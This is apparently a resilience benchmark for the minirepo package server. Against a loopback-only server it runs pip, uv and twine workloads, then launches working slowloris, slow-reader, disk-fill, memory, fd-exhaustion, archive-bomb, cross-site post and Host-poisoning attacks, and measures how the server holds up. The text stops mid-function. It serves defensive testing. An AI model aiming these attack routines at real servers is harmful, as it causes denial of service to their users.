"""The mixed-attack benchmark (issue 14): a developer's daily life against a real
`minirepo serve`, first quiet, then while eight attacks run at once, then its recovery.

    python -m benchmarks.attack                                  # 20 s quiet, 60 s attack
    python -m benchmarks.attack --quiet-seconds 5 --seconds 10   # a smoke run
    python -m benchmarks.attack --json /tmp/attack.json --server-setting header_timeout=5
    python -m benchmarks.attack --skip a --skip b   # which attack hurts: leave some out

Loopback only: the server listens on 127.0.0.1; the attackers bind 127.0.0.2 and 127.0.0.3
as their source addresses, and the legitimate client keeps the default (127.0.0.1), so the
server can tell them apart as it would on a LAN. Every loop is bounded in count and in time,
and the run stops by itself; on exit every socket is closed, every client process and the
server killed, and the temp folder removed.

Setup: this checkout's minirepo (or `--source`'s), run by `--python runtime`, the cached
venv of its runtime dependencies that `benchmarks.run` uses (as `pip install minirepo`
leaves a Pi), or by `current`, this interpreter; with its default settings plus
`--server-setting`s, in a temp data folder on a free port, with its own TMPDIR so that
waitress's spool files can be measured. An account `uploader` (role uploader in `main`,
password hashed cheaply at creation as the tests do) and its upload token; a public 24 MiB
wheel of random bytes; a 5-project chain (chain-a requires chain-b ... chain-e). The
archive bombs are built once and cached beside the benchmark corpus
(`~/.cache/minirepo-bench`).

Phases:
1. quiet (`--quiet-seconds`): in turn, `pip install --no-cache-dir --target` of chain-a (all
   five), `uv pip install --no-cache` of the same into a fresh venv, `twine upload` of a new
   version of `daily-life`; beside them `/-/health` every 100 ms, each on a new connection
   (a kept-alive one would never wait to be accepted, and that is what slowloris attacks).
2. attack (`--seconds`): the same life while these run; counts are totals spread over the
   two attacker addresses unless said, and each request loop waits 50 ms between attempts:
   a. slowloris: 100 sockets per address, a GET whose headers never end (a line every 5 s);
   b. slow reader: 8 sockets, each pipelining two GETs of the 24 MiB file, reading nothing;
   c. anonymous disk fill: 60 MiB multipart POSTs without credentials, 5 at a time;
   d. text-field memory: 16 text fields of 4 MiB in one POST, with the token, 2 at a time;
   e. fd exhaustion: 995 tiny file parts in one POST, with the token, 3 at a time;
   f. archive bombs: a wheel of 400 000 entries and a .tar.gz of 400 000 members (PKG-INFO
      last), each uploaded again and again, 1 at a time;
   g. cross-site form posts: an upload with the uploader's password, `Origin:
      http://evil.example` and `Sec-Fetch-Site: cross-site`;
   h. Host header poisoning: GET /simple with `Host: evil.example`.
   A closed connection is opened again (slowloris at most 20 a second per address, a slow
   reader's socket at most once a second).
3. recovery: `/-/health` every 100 ms after the attack's sockets are cut. Back to quiet is
   the time from that cut to the first of 10 consecutive probes answering 200 within
   max(1.5 x quiet p99, quiet p99 + 20 ms); it is given up after 60 s.
4. refused POST alone: once the spool has drained (at most 30 s), one anonymous 60 MiB
   POST with nothing else running, the spool sampled every 10 ms: how much a refused POST
   costs in disk (mixed with the attack's authorized uploads, it could not be told apart).
   The cross-site posts the server stored are counted from its audit log afterwards.

Measured every 100 ms: the server's VmRSS and open fds (/proc/<pid>/fd), and its spool:
the bytes of every file under its TMPDIR and `<data>/tmp`, counting the files it holds open
after unlinking them (waitress's TemporaryFile has no name). Latency percentiles count a
failed operation as its timeout (5 s for a probe, 60 s for a client), not as a fast answer.

Targets (PASS/FAIL; the exit status is 1 if any fails): every legitimate operation of the
quiet and attack phases succeeds; health p99 during the attack <= 1 s; peak RSS <= 120 MiB;
back to quiet within 5 s; a refused POST spools <= 64 KiB; the peak spool stays within
`max_spool_bytes` (0: twice `max_upload_size`); no cross-site post is accepted; no answer
to a poisoned Host carries an absolute Location.

The server is pinned to CPU 0 and this process with all its clients to CPU 1, as in
`benchmarks.run` (`--no-pin` to leave both free).
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import dataclasses
import errno
import functools
import hashlib
import http.client
import io
import itertools
import json
import math
import os
import re
import select
import selectors
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import requests
from uv import find_uv_bin

from benchmarks.load import basic_header
from benchmarks.servers import CHECKOUT, cache_dir, minirepo_venv
from minirepo import config
from minirepo.errors import UserError
from tests.helpers.distfactory import (
    Dist,
    escaped,
    make_wheel,
    sdist_members,
    upload_form,
    wheel_members,
    write_zip,
)
from tests.helpers.serverproc import (
    FAST_HASH,
    TOKEN_RE,
    base_env,
    client_env,
    free_port,
    wait_answering,
)

SERVER = "127.0.0.1"
ATTACKERS = ("127.0.0.2", "127.0.0.3")
USER, PASSWORD = "uploader", "uploader-password-1"
CHAIN = ("chain-a", "chain-b", "chain-c", "chain-d", "chain-e")
DAILY, PUBLIC, CROSS_SITE = "daily-life", "big-public", "cross-site"
EVIL = "evil.example"
MIB = 1024**2
PUBLIC_SIZE = 24 * MIB
FILL_SIZE = 60 * MIB
TEXT_FIELDS, TEXT_FIELD_SIZE = 16, 4 * MIB
FILE_PARTS = 995
BOMB_MEMBERS = 400_000
# Incompressible bytes ahead of the sdist bomb's members keep its inflation under the 50x
# that marks a tar bomb, so a reader walks all its members instead of giving up early.
BOMB_NOISE = 4 * MIB
ZIP_DATE = (2020, 1, 1, 0, 0, 0)
BOUNDARY = "minirepo-attack-boundary"

SLOWLORIS_SOCKETS = 100  # per attacker address
SLOWLORIS_LINE_EVERY = 5.0
SLOWLORIS_RECONNECTS = 20.0  # a second, per address
SLOW_READERS = 8
READER_RCVBUF = 64 * 1024
READER_REOPEN_AFTER = 1.0
WORKERS = {"c": 5, "d": 2, "e": 3, "f wheel": 1, "f sdist": 1, "g": 1, "h": 1}
ATTEMPT_PAUSE = 0.05
MAX_ATTEMPTS = 100_000  # per worker: with the pause, time always ends a loop first
SEND_CHUNK = 256 * 1024
TICK = 0.2  # a round of the socket-juggling attacks (a, b)
CONNECT_TIMEOUT = 2.0
SOCKET_WAIT = 0.5  # each blocking call, so a loop sees the end of the attack quickly
SEND_STALL = 30.0  # a server that takes no byte for this long: give up the request
ANSWER_TIMEOUT = 60.0  # a bomb takes seconds to read
HEAD_LIMIT = 64 * 1024

SAMPLE_EVERY = 0.1
PROBE_SAMPLE_EVERY = 0.01
HEALTH_EVERY = 0.1
HEALTH_TIMEOUT = 5.0
CLIENT_TIMEOUT = 60.0  # pip, uv, twine: a stuck one fails and the loop goes on
JOIN_TIMEOUT = 10.0
RECOVERY_LIMIT = 60.0
SPOOL_DRAIN = 30.0
RECOVERY_RUN = 10
RECOVERY_FACTOR, RECOVERY_SLACK = 1.5, 0.020

TARGET_HEALTH_P99 = 1.0
TARGET_RSS_MIB = 120.0
TARGET_RECOVERY = 5.0
TARGET_REFUSED_SPOOL = 64 * 1024

TITLES = {
    "a": f"slowloris, {SLOWLORIS_SOCKETS} sockets per address",
    "b": f"slow reader, {SLOW_READERS} sockets x 2 pipelined GETs",
    "c": "anonymous 60 MiB POSTs (disk fill)",
    "d": f"{TEXT_FIELDS} text fields of 4 MiB (memory)",
    "e": f"{FILE_PARTS} file parts (fd exhaustion)",
    "f wheel": f"wheel of {BOMB_MEMBERS} entries",
    "f sdist": f"sdist of {BOMB_MEMBERS} members",
    "g": "cross-site form post with a password",
    "h": f"GET /simple with Host: {EVIL}",
}
LEGIT_KINDS = ("pip install", "uv pip install", "twine upload", "health")
SERVER_FIGURES = ("rss_mib", "fds", "spool_bytes")


# --- the server -----------------------------------------------------------------------


@dataclasses.dataclass
class Server:
    proc: subprocess.Popen[bytes]
    port: int
    data: Path
    tmp: Path  # its TMPDIR, where waitress spools request bodies
    env: dict[str, str]
    python: str
    source: Path  # the checkout whose minirepo runs
    log: Path

    @property
    def base(self) -> str:
        return f"http://{SERVER}:{self.port}"

    @property
    def spool_dirs(self) -> tuple[Path, Path]:
        return (self.tmp, self.data / "tmp")

    def cli(self, *args: str, stdin: str | None = None) -> str:
        """`minirepo ARGS` on the data folder; a password set here is hashed cheaply."""
        env = {**self.env, "MINIREPO_PASSWORD_HASH": FAST_HASH}
        cmd = [self.python, "-m", "minirepo", *args]
        done = subprocess.run(
            cmd, input=stdin, capture_output=True, text=True, env=env, cwd=self.source, timeout=60
        )
        if done.returncode != 0:
            raise RuntimeError(f"{' '.join(args[:2])} failed: {done.stderr}")
        return done.stdout

    def log_tail(self) -> str:
        """The log's end, the first admin's token (in the start banner) masked."""
        return TOKEN_RE.sub("mr-(masked)", self.log.read_text(errors="replace")[-3000:])

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=15)


def start_server(
    folder: Path, python: str, source: Path, settings: Mapping[str, str], pin: bool
) -> Server:
    """`python -m minirepo serve` started directly (no wrapper: its pid is the server's)."""
    port, data, tmp = free_port(), folder / "data", folder / "server-tmp"
    tmp.mkdir()
    env = base_env(
        {"MINIREPO_DATA": str(data), "TMPDIR": str(tmp), "PYTHONPATH": str(source), **settings}
    )
    log = folder / "server.log"
    cmd = [python, "-m", "minirepo", "serve", "--host", SERVER, "--port", str(port)]
    # Only the main thread runs yet, so a preexec_fn is safe here.
    pinned = functools.partial(os.sched_setaffinity, 0, {0}) if pin else None
    with log.open("ab") as handle:  # a pipe nobody reads would block the server
        proc = subprocess.Popen(
            cmd, stdout=handle, stderr=subprocess.STDOUT, env=env, cwd=source, preexec_fn=pinned
        )
    server = Server(proc, port, data, tmp, env, python, source, log)
    try:
        wait_answering(f"{server.base}/-/health", proc, log, timeout=60)
    except BaseException:
        server.stop()
        raise
    return server


# --- files ------------------------------------------------------------------------------


def padded_wheel(folder: Path, dist: Dist, size: int) -> Path:
    """A wheel of `size` random bytes: no layer can shrink what it sends or stores."""
    members = wheel_members(dist)
    members[f"{dist.module}/padding.bin"] = os.urandom(size)
    return write_zip(folder / dist.wheel_name, members)


def wheel_bytes(dist: Dist) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in wheel_members(dist).items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data)
    return buffer.getvalue()


def wheel_bomb(path: Path) -> None:
    """Empty entries inflate to nothing, so only a bound on their count stops a reader from
    holding every entry's record in memory (~35 MiB on disk)."""
    partial = path.with_name(path.name + ".part")
    with zipfile.ZipFile(partial, "w") as archive:
        for name, data in wheel_members(Dist("bomb-wheel", "1.0")).items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data)
        for number in range(BOMB_MEMBERS):
            archive.writestr(zipfile.ZipInfo(f"w/{number:06d}", ZIP_DATE), b"")
    partial.rename(path)


def sdist_bomb(path: Path) -> None:
    """PKG-INFO comes last, so a reader walks every member before it finds the metadata."""
    dist = Dist("bomb-sdist", "1.0")
    top = f"{escaped(dist.name)}-{dist.version}"
    partial = path.with_name(path.name + ".part")

    def add(name: str, data: bytes) -> None:
        info = tarfile.TarInfo(name)
        info.size, info.mtime = len(data), 1_577_836_800
        archive.addfile(info, io.BytesIO(data))

    with tarfile.open(partial, "w:gz") as archive:
        add(f"{top}/noise.bin", os.urandom(BOMB_NOISE))
        for number in range(BOMB_MEMBERS):
            add(f"{top}/m/{number}", b"")
        for name, data in sdist_members(dist).items():
            add(name, data)
    partial.rename(path)


def cached_bombs(cache: Path) -> tuple[Path, Path]:
    """Built once (about 20 s) and kept: no run should wait for them twice."""
    folder = cache / f"attack-bombs-{BOMB_MEMBERS}"
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / Dist("bomb-wheel", "1.0").wheel_name
    sdist = folder / Dist("bomb-sdist", "1.0").sdist_name
    for path, build in ((wheel, wheel_bomb), (sdist, sdist_bomb)):
        if not path.exists():
            print(f"building {path.name} (once) ...", flush=True)
            build(path)
    return wheel, sdist


def publish(server: Server, token: str, path: Path) -> None:
    form = upload_form(path)
    handle, filename = form.pop("content")
    response = requests.post(
        f"{server.base}/",
        data=form,
        files={"content": (filename, handle, "application/octet-stream")},
        auth=("__token__", token),
        timeout=120,
    )
    if response.status_code != 200:
        raise RuntimeError(f"setup upload of {path.name}: {response.status_code} {response.text}")


def set_up(server: Server, folder: Path) -> tuple[str, str]:
    """The uploader, its token, the public file and the chain; returns the token and the
    public file's path on the server."""
    server.cli("user", "add", USER, "--password-stdin", stdin=PASSWORD + "\n")
    server.cli("grant", USER, "main", "uploader")
    token = server.cli("token", "create", "--user", USER).strip().splitlines()[-1]
    files = folder / "setup-files"
    files.mkdir()
    publish(server, token, padded_wheel(files, Dist(PUBLIC, "1.0"), PUBLIC_SIZE))
    for name, needs in itertools.zip_longest(CHAIN, CHAIN[1:]):
        requires = (needs,) if needs else ()
        publish(server, token, make_wheel(files, Dist(name, "1.0", requires_dist=requires)))
    page = requests.get(f"{server.base}/simple/{PUBLIC}/", timeout=30)
    page.raise_for_status()
    href = re.search(r'href="([^"#]+)', page.text)
    if href is None:
        raise RuntimeError(f"no link on /simple/{PUBLIC}/: {page.text[:200]}")
    return token, urlsplit(urljoin(page.url, href.group(1))).path


# --- what the server holds --------------------------------------------------------------


def rss_mib(pid: int) -> float:
    match = re.search(r"VmRSS:\s+(\d+) kB", Path(f"/proc/{pid}/status").read_text())
    return int(match.group(1)) / 1024 if match else 0.0


def fds_and_spool(pid: int, dirs: Iterable[Path]) -> tuple[int, int]:
    """The open fds, and the bytes of the spool files: every file under `dirs` plus those
    held open there after being unlinked (through /proc/<pid>/fd), each inode once."""
    prefixes = tuple(f"{folder}/" for folder in dirs)
    sizes: dict[tuple[int, int], int] = {}
    count = 0
    for entry in os.scandir(f"/proc/{pid}/fd"):
        count += 1
        with contextlib.suppress(OSError):  # closed between the listing and the look
            if os.readlink(entry.path).startswith(prefixes):
                info = os.stat(entry.path)
                sizes[(info.st_dev, info.st_ino)] = info.st_size
    for folder in dirs:
        for root, _, names in os.walk(folder):
            for name in names:
                with contextlib.suppress(OSError):
                    info = os.stat(os.path.join(root, name))
                    sizes[(info.st_dev, info.st_ino)] = info.st_size
    return count, sum(sizes.values())


class Monitor:
    """Samples the server's RSS, fds and spool bytes; keeps each phase's peaks (the phase
    is set by the main thread as the run goes)."""

    def __init__(self, server: Server, interval: float, limit: float, phase: str) -> None:
        self.server = server
        self.interval = interval
        self.limit = limit  # seconds: a forgotten monitor still stops
        self.phase = phase
        self.peaks: dict[str, dict[str, float]] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="monitor", daemon=True)

    def sample(self) -> None:
        pid = self.server.proc.pid
        rss = rss_mib(pid)
        fds, spool = fds_and_spool(pid, self.server.spool_dirs)
        peaks = self.peaks.setdefault(self.phase, dict.fromkeys(SERVER_FIGURES, 0.0))
        for name, value in zip(SERVER_FIGURES, (rss, fds, spool), strict=True):
            peaks[name] = max(peaks[name], float(value))

    def _run(self) -> None:
        for _ in range(math.ceil(self.limit / self.interval)):
            if self._stop.wait(self.interval):
                return
            try:
                self.sample()
            except (FileNotFoundError, ProcessLookupError):
                return  # the server is gone; the report says so

    def __enter__(self) -> Monitor:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(JOIN_TIMEOUT)


# --- the legitimate client --------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class Op:
    kind: str
    phase: str
    ok: bool
    seconds: float
    detail: str = ""


class Journal:
    """Every legitimate operation, appended from several threads."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.ops: list[Op] = []

    def add(self, op: Op) -> None:
        with self._lock:
            self.ops.append(op)

    def of(self, kind: str, phase: str) -> list[Op]:
        with self._lock:
            return [op for op in self.ops if op.kind == kind and op.phase == phase]


def health_probe(port: int) -> tuple[bool, float, str]:
    """One GET on a new connection from the default address (the server sees 127.0.0.1)."""
    start = time.perf_counter()
    connection = http.client.HTTPConnection(SERVER, port, timeout=HEALTH_TIMEOUT)
    try:
        connection.request("GET", "/-/health")
        response = connection.getresponse()
        response.read()
        ok, detail = response.status == 200, str(response.status)
    except (OSError, http.client.HTTPException) as exc:
        ok, detail = False, why(exc)
    finally:
        connection.close()
    return ok, time.perf_counter() - start, detail


def paced(until: float) -> Iterable[int]:
    """Ticks every HEALTH_EVERY until `until`, skipping those a slow probe ate."""
    start = time.monotonic()
    for tick in range(math.ceil((until - start) / HEALTH_EVERY) + 1):
        if time.monotonic() >= until:
            return
        yield tick
        time.sleep(max(0.0, start + (tick + 1) * HEALTH_EVERY - time.monotonic()))


def health_loop(port: int, journal: Journal, phase: str, until: float) -> None:
    for _ in paced(until):
        ok, seconds, detail = health_probe(port)
        journal.add(Op("health", phase, ok, seconds, detail))


class Legit:
    """A developer's machine: pip, uv and twine in turn, each a fresh process with no cache,
    so that every run asks the server for everything."""

    def __init__(self, base: str, token: str, work: Path, journal: Journal) -> None:
        self.base, self.work, self.journal = base, work, journal
        self.env = client_env(work / "home")
        self.twine_env = {**self.env, "TWINE_USERNAME": "__token__", "TWINE_PASSWORD": token}
        self.uv = find_uv_bin()
        self._versions = itertools.count(1)
        self._lock = threading.Lock()
        self._children: set[subprocess.Popen[bytes]] = set()
        self.stopped = threading.Event()

    def loop(self, phase: str, until: float) -> None:
        """Rounds until `until`, at most one a second: clients failing at once do not spin."""
        for _ in range(math.ceil(max(0.0, until - time.monotonic())) + 1):
            begun = time.monotonic()
            for step in (self.pip, self.uv_install, self.twine):
                if self.stopped.is_set() or time.monotonic() >= until:
                    return
                step(phase)
            self.stopped.wait(max(0.0, begun + 1.0 - time.monotonic()))

    def pip(self, phase: str) -> None:
        with tempfile.TemporaryDirectory(dir=self.work) as target:
            cmd = [sys.executable, "-m", "pip", "install", "--quiet", "--no-cache-dir"]
            cmd += ["--index-url", f"{self.base}/simple/", "--target", target, CHAIN[0]]
            self._timed("pip install", phase, cmd, self.env)

    def uv_install(self, phase: str) -> None:
        with tempfile.TemporaryDirectory(dir=self.work) as venv:
            made = self._call([self.uv, "venv", "--quiet", "--python", sys.executable, venv])
            if made != 0:
                self.journal.add(Op("uv pip install", phase, False, 0.0, f"uv venv: {made}"))
                return
            cmd = [self.uv, "pip", "install", "--quiet", "--no-cache", "--python", venv]
            cmd += ["--index-url", f"{self.base}/simple/", CHAIN[0]]
            self._timed("uv pip install", phase, cmd, self.env)

    def twine(self, phase: str) -> None:
        with tempfile.TemporaryDirectory(dir=self.work) as folder:
            wheel = make_wheel(Path(folder), Dist(DAILY, f"1.0.{next(self._versions)}"))
            cmd = [sys.executable, "-m", "twine", "upload", "--non-interactive"]
            cmd += ["--disable-progress-bar", "--repository-url", f"{self.base}/", str(wheel)]
            self._timed("twine upload", phase, cmd, self.twine_env)

    def _call(self, cmd: list[str], env: dict[str, str] | None = None) -> int | str:
        """The exit status, or the last line of output of a failure, or "timed out"."""
        proc = subprocess.Popen(
            cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=env or self.env
        )
        with self._lock:
            self._children.add(proc)
        try:
            out, _ = proc.communicate(timeout=CLIENT_TIMEOUT)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.communicate()
            return f"timed out after {CLIENT_TIMEOUT:.0f} s"
        finally:
            with self._lock:
                self._children.discard(proc)
        lines = out.decode(errors="replace").strip().splitlines()
        return proc.returncode if proc.returncode == 0 or not lines else lines[-1][:200]

    def _timed(self, kind: str, phase: str, cmd: list[str], env: dict[str, str]) -> None:
        start = time.perf_counter()
        result = self._call(cmd, env)
        seconds = time.perf_counter() - start
        self.journal.add(Op(kind, phase, result == 0, seconds, "" if result == 0 else str(result)))

    def kill_all(self) -> None:
        self.stopped.set()
        with self._lock:
            for proc in self._children:
                proc.kill()


# --- raw HTTP for the attacks -----------------------------------------------------------


def why(exc: BaseException) -> str:
    if isinstance(exc, TimeoutError):
        return "timeout"
    code = getattr(exc, "errno", None)
    return errno.errorcode.get(code, type(exc).__name__) if code else type(exc).__name__


class Sockets:
    """Every open attack socket, so that the attack's end cuts them all at once (shutdown
    wakes a thread blocked in send or recv; close would not)."""

    def __init__(self, port: int) -> None:
        self.port = port
        self._lock = threading.Lock()
        self._open: set[socket.socket] = set()
        self._cut = False

    def connect(self, source: str, rcvbuf: int = 0) -> socket.socket:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            if rcvbuf:  # before connect, or the window is already advertised
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            sock.settimeout(CONNECT_TIMEOUT)
            sock.bind((source, 0))
            sock.connect((SERVER, self.port))
            sock.settimeout(SOCKET_WAIT)
            with self._lock:
                if self._cut:
                    raise ConnectionAbortedError(errno.ECONNABORTED, "the attack is over")
                self._open.add(sock)
        except BaseException:
            sock.close()
            raise
        return sock

    def close(self, sock: socket.socket) -> None:
        with self._lock:
            self._open.discard(sock)
        sock.close()

    def cut_all(self) -> None:
        with self._lock:
            self._cut = True
            for sock in self._open:
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)


@dataclasses.dataclass
class Attack:
    """What every attack thread shares: where to aim, when to stop, the sockets to cut."""

    sockets: Sockets
    deadline: float
    stop: threading.Event = dataclasses.field(default_factory=threading.Event)

    def over(self) -> bool:
        return self.stop.is_set() or time.monotonic() >= self.deadline


class Tally:
    """One attack's attempts and what each got: a status, "reset", "held to the end"..."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.answers: collections.Counter[str] = collections.Counter()

    def note(self, answer: str) -> None:
        with self._lock:
            self.answers[answer] += 1

    @property
    def attempts(self) -> int:
        with self._lock:
            return sum(self.answers.values())


@dataclasses.dataclass(frozen=True)
class Request:
    head: bytes
    body: tuple[bytes, ...] = ()


@dataclasses.dataclass(frozen=True)
class Answer:
    status: int
    location: str | None
    early: bool  # came before the whole body was sent


Part = tuple[str, str | None, bytes]  # name, filename (None: a text field), content


def multipart(parts: Iterable[Part]) -> tuple[bytes, ...]:
    """The body's pieces; small ones are joined, a big content stays the one shared object
    (16 fields of the same 4 MiB cost 4 MiB here, not 64)."""
    pieces: list[bytes] = []
    small: list[bytes] = []
    for name, filename, content in parts:
        disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        kind = "Content-Type: application/octet-stream\r\n" if filename else ""
        small.append(f"--{BOUNDARY}\r\nContent-Disposition: {disposition}\r\n{kind}\r\n".encode())
        if len(content) > SEND_CHUNK:
            pieces += [b"".join(small), content]
            small = []
        else:
            small.append(content)
        small.append(b"\r\n")
    return (*pieces, b"".join([*small, f"--{BOUNDARY}--\r\n".encode()]))


def post(port: int, parts: Iterable[Part], headers: Mapping[str, str] | None = None) -> Request:
    body = multipart(parts)
    lines = [
        "POST / HTTP/1.1",
        f"Host: {SERVER}:{port}",
        f"Content-Type: multipart/form-data; boundary={BOUNDARY}",
        f"Content-Length: {sum(map(len, body))}",
        *(f"{key}: {value}" for key, value in (headers or {}).items()),
    ]
    return Request(("\r\n".join(lines) + "\r\n\r\n").encode(), body)


def twine_parts(filename: str, data: bytes) -> list[Part]:
    """The form twine sends for a file (as tests.helpers.distfactory.upload_form)."""
    name, version = filename.split("-")[:2]
    wheel = filename.endswith(".whl")
    fields = {
        ":action": "file_upload",
        "protocol_version": "1",
        "name": name,
        "version": version.removesuffix(".tar.gz"),
        "filetype": "bdist_wheel" if wheel else "sdist",
        "pyversion": "py3" if wheel else "source",
        "metadata_version": "2.1",
        "sha256_digest": hashlib.sha256(data).hexdigest(),
    }
    return [(key, None, value.encode()) for key, value in fields.items()] + [
        ("content", filename, data)
    ]


def status_of(head: bytes) -> int | None:
    match = re.match(rb"HTTP/1\.[01] (\d{3})", head)
    return int(match.group(1)) if match else None


def location_of(head: bytes) -> str | None:
    match = re.search(rb"\r\nLocation:[ \t]*([^\r\n]*)", head, re.IGNORECASE)
    return match.group(1).decode("latin-1").strip() if match else None


def readable(sock: socket.socket) -> bool:
    """Whether an answer (or the end) waits; poll, as select() fails on fds above 1023."""
    poller = select.poll()
    poller.register(sock, select.POLLIN)
    return bool(poller.poll(0))


def send(attack: Attack, sock: socket.socket, request: Request) -> bool:
    """Sends the request; True when an answer came before the body's end (sending stops)."""
    sock.sendall(request.head)
    for piece in request.body:
        view = memoryview(piece)
        stalled = 0.0
        while view:
            if attack.stop.is_set():
                raise ConnectionAbortedError(errno.ECONNABORTED, "the attack is over")
            if readable(sock):
                return True
            try:
                view = view[sock.send(view[:SEND_CHUNK]) :]
                stalled = 0.0
            except TimeoutError:
                stalled += SOCKET_WAIT
                if stalled >= SEND_STALL:
                    raise
    return False


def read_head(attack: Attack, sock: socket.socket) -> bytes:
    """The answer's status line and headers, or b"" if the server closed without one."""
    head = b""
    waited = 0.0
    while b"\r\n\r\n" not in head and len(head) < HEAD_LIMIT:
        if attack.stop.is_set():
            raise ConnectionAbortedError(errno.ECONNABORTED, "the attack is over")
        try:
            chunk = sock.recv(HEAD_LIMIT)
        except TimeoutError:
            waited += SOCKET_WAIT
            if waited >= ANSWER_TIMEOUT:
                raise
            continue
        if not chunk:
            break
        head += chunk
    return head


def exchange(attack: Attack, source: str, request: Request) -> Answer | str:
    """One request on a new connection: its answer, or what went wrong in a few words."""
    try:
        sock = attack.sockets.connect(source)
    except OSError as exc:
        return "cut at the end" if attack.stop.is_set() else f"connect failed ({why(exc)})"
    stage = "sending"
    try:
        early = send(attack, sock, request)
        stage = "waiting"
        head = read_head(attack, sock)
    except OSError as exc:
        if attack.stop.is_set():
            return "cut at the end"
        return f"{why(exc)} while {stage}"
    finally:
        attack.sockets.close(sock)
    status = status_of(head)
    if status is None:
        return "closed, no answer" if not head else "not HTTP"
    return Answer(status, location_of(head), early)


def plain(answer: Answer) -> str:
    return f"{answer.status}" + (" before the body's end" if answer.early else "")


def host_judge(answer: Answer) -> str:
    if answer.location is None:
        return f"{answer.status} without Location"
    if re.match(r"^([a-z][a-z0-9+.-]*:)?//", answer.location, re.IGNORECASE):
        return f"{answer.status} ABSOLUTE Location {answer.location}"
    return f"{answer.status} relative Location"


def request_loop(
    attack: Attack,
    source: str,
    tally: Tally,
    build: Callable[[], Request],
    judge: Callable[[Answer], str],
) -> None:
    for _ in range(MAX_ATTEMPTS):
        if attack.over():
            return
        outcome = exchange(attack, source, build())
        tally.note(judge(outcome) if isinstance(outcome, Answer) else outcome)
        attack.stop.wait(ATTEMPT_PAUSE)


def rounds(attack: Attack) -> int:
    """How many TICKs the attack lasts: the count bound of a socket-juggling loop, each
    round of which takes at least a TICK."""
    return math.ceil((attack.deadline - time.monotonic()) / TICK) + 1


def slowloris(attack: Attack, source: str, tally: Tally) -> None:
    """Connections whose GET never ends: one more header line every 5 s. One the server
    closes is counted by what it answered and opened again, within the reconnect rate."""
    selector = selectors.DefaultSelector()
    due: dict[socket.socket, float] = {}
    started, opened = time.monotonic(), 0
    try:
        for _ in range(rounds(attack)):
            begun = time.monotonic()
            allowed = SLOWLORIS_SOCKETS + SLOWLORIS_RECONNECTS * (time.monotonic() - started)
            while len(due) < SLOWLORIS_SOCKETS and opened < allowed and not attack.over():
                opened += 1
                try:
                    sock = attack.sockets.connect(source)
                except OSError as exc:
                    tally.note(f"connect failed ({why(exc)})")
                    break
                selector.register(sock, selectors.EVENT_READ, sock)
                due[sock] = 0.0
            for sock, when in list(due.items()):
                if when <= time.monotonic():
                    line = b"X-Slow: 1\r\n" if when else b"GET / HTTP/1.1\r\nHost: x\r\n"
                    try:
                        sock.sendall(line)
                        due[sock] = time.monotonic() + SLOWLORIS_LINE_EVERY
                    except OSError as exc:
                        finish(attack, selector, due, sock, tally, f"{why(exc)} while sending")
            events = selector.select(timeout=TICK)
            if attack.over():
                return
            for key, _ in events:
                finish(attack, selector, due, key.data, tally, answer_or_close(key.data))
            attack.stop.wait(max(0.0, begun + TICK - time.monotonic()))
    finally:
        for sock in list(due):
            finish(attack, selector, due, sock, tally, "held open to the end")
        selector.close()


def answer_or_close(sock: socket.socket) -> str:
    try:
        data = sock.recv(HEAD_LIMIT)
    except OSError as exc:
        return why(exc)
    status = status_of(data)
    return str(status) if status else ("closed, no answer" if not data else "not HTTP")


def finish(
    attack: Attack,
    selector: selectors.BaseSelector,
    due: dict[socket.socket, float],
    sock: socket.socket,
    tally: Tally,
    outcome: str,
) -> None:
    selector.unregister(sock)
    del due[sock]
    attack.sockets.close(sock)
    tally.note(outcome)


@dataclasses.dataclass
class Reader:
    sock: socket.socket | None = None
    status: str = ""  # peeked, never read
    reopen_at: float = 0.0


def slow_reader(attack: Attack, source: str, tally: Tally, count: int, path: str) -> None:
    """Connections that ask for the big file twice (pipelined) and read nothing: the answer
    waits in the server's buffers. The status is peeked (MSG_PEEK), so nothing is consumed."""
    request = f"GET {path} HTTP/1.1\r\nHost: {SERVER}:{attack.sockets.port}\r\n\r\n".encode() * 2
    readers = [Reader() for _ in range(count)]
    poller = select.poll()
    by_fd: dict[int, Reader] = {}
    try:
        for _ in range(rounds(attack)):
            begun = time.monotonic()
            if attack.over():
                return
            for reader in readers:
                if reader.sock is None and time.monotonic() >= reader.reopen_at:
                    open_reader(attack, source, tally, reader, request, poller, by_fd)
                if reader.sock is not None and not reader.status:
                    reader.status = peek_status(reader.sock)
            events = poller.poll(TICK * 1000)
            if attack.over():
                return
            for fd, _ in events:
                reader = by_fd.pop(fd)
                poller.unregister(fd)
                assert reader.sock is not None
                error = reader.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                ending = errno.errorcode.get(error, "closed") if error else "closed"
                tally.note(f"{reader.status or 'no answer'}, then {ending}")
                attack.sockets.close(reader.sock)
                reader.sock = None
            attack.stop.wait(max(0.0, begun + TICK - time.monotonic()))
    finally:
        for reader in readers:
            if reader.sock is not None:
                tally.note(f"{reader.status or 'no answer'}, held to the end")
                attack.sockets.close(reader.sock)


def open_reader(
    attack: Attack,
    source: str,
    tally: Tally,
    reader: Reader,
    request: bytes,
    poller: select.poll,
